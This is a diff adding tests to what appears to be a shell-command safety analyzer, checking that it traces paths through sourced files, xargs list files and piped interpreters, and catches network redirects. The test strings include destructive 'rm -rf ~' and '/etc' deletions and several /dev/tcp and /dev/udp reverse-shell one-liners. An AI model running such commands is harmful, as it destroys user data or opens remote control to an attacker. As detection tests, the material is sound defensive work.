@@ -1,5 +1,5 @@
 import { describe, expect, test } from "bun:test";
-import { commandNamed, SHELL_HOME, viewOf } from "../../../support/shell.ts";
+import { commandNamed, commandsOf, SHELL_HOME, viewOf } from "../../../support/shell.ts";
 import { setTestLimit } from "../../../support/test-limit.ts";
 
 setTestLimit();
@@ -61,5 +61,74 @@ describe("commands other programs launch", () => {
   test("a program a build wrote runs as any program does", () => {
     for (const line of ["gcc -o app main.c && ./app", "go build -o bin/server . && ./bin/server --help", "cargo build && ./target/debug/tool"])
       expect(viewOf(line).unresolved).toEqual([]);
+  });
+});
+
+describe("a sourced file runs in its caller's shell", () => {
+  const written = (text: string) => `cat > env.sh <<'EOF'\n${text}\nEOF\n`;
+
+  test("the variables it sets name the caller's paths afterwards", () => {
+    for (const source of [". ./env.sh", "source env.sh"]) {
+      const rm = commandsOf(`${written("export OUT=dist")}${source} && rm -rf "$OUT"`).find((command) => command.name === "rm");
+      expect(rm?.paths).toEqual(["dist"]);
+    }
+    const home = commandsOf(`${written('TARGET="$HOME"')}. ./env.sh; rm -rf "$TARGET"`).find((command) => command.name === "rm");
+    expect(home?.paths).toEqual([SHELL_HOME]);
+  });
+
+  test("the functions it defines can be called afterwards, and are judged there", () => {
+    const rm = commandsOf(`${written('wipe() { rm -rf "$HOME/$1"; }')}source env.sh; wipe .config`).filter((command) => command.name === "rm");
+    expect(rm.map((command) => command.paths)).toContainEqual([`${SHELL_HOME}/.config`]);
+  });
+
+  test("a script run by bash does not leave its variables behind", () => {
+    const rm = commandsOf(`${written("OUT=dist")}bash env.sh; rm -rf "$OUT"`).find((command) => command.name === "rm");
+    expect(rm?.paths).not.toEqual(["dist"]);
+  });
+});
+
+describe("a data file's text fed to a program", () => {
+  const written = (name: string, text: string) => `cat > ${name} <<'EOF'\n${text}\nEOF\n`;
+
+  test("xargs takes its items from a list file, on stdin or with -a", () => {
+    for (const run of ["xargs rm -rf < paths.txt", "xargs -a paths.txt rm -rf", "xargs --arg-file=paths.txt rm -rf"]) {
+      const rm = commandsOf(`${written("paths.txt", "dist/\n/etc")}${run}`).find((command) => command.name === "rm");
+      expect(rm?.paths).toEqual(["dist", "/etc"]);
+    }
+  });
+
+  test("a list file nobody has shown is asked for, and its items stay unseen", () => {
+    const view = viewOf("xargs rm -rf < paths.txt");
+    expect(view.needs).toContainEqual({ path: "paths.txt", role: "substituted", optional: true });
+    expect(view.commands.find((command) => command.name === "rm")?.paths).toEqual([]);
+  });
+
+  test("$(< file) holds the file's text, as $(cat file) does", () => {
+    const rm = commandsOf(`${written("cmd.txt", "rm -rf ~")}bash -c "$(< cmd.txt)"`).find((command) => command.name === "rm");
+    expect(rm?.paths).toEqual([SHELL_HOME]);
+    expect(viewOf('sh -c "$(< other.txt)"').needs).toContainEqual({ path: "other.txt", role: "substituted", optional: true });
+  });
+
+  test("a file cat pipes into an interpreter is asked for; known, it is the interpreter's code", () => {
+    expect(viewOf("cat snippet.py | python3 -").needs).toContainEqual({ path: "snippet.py", role: "substituted", optional: true });
+    const rm = commandsOf(`${written("snippet.py", "import os\nos.system('rm -rf ~')")}cat snippet.py | python3 -`).find((command) => command.name === "rm");
+    expect(rm?.paths).toEqual([SHELL_HOME]);
+  });
+});
+
+describe("a launched program inherits its launcher's connections", () => {
+  test("a /dev/tcp redirect on a wrapper reaches the shell it starts", () => {
+    for (const input of [
+      "nohup bash -i >& /dev/tcp/198.51.100.23/9001 0>&1",
+      "sudo sh -i > /dev/tcp/198.51.100.23/9001 0<&1 2>&1",
+      "setsid bash -i >& /dev/udp/198.51.100.23/53 0>&1 &",
+    ]) {
+      const shell = commandsOf(input).find((command) => command.name === "bash" || command.name === "sh");
+      expect(shell?.network.map((destination) => destination.host)).toEqual(["198.51.100.23"]);
+    }
+  });
+
+  test("a file redirect stays the wrapper's", () => {
+    expect(commandNamed("nohup npm run dev > dev.log 2>&1", "npm").writes).toEqual([]);
   });
 });
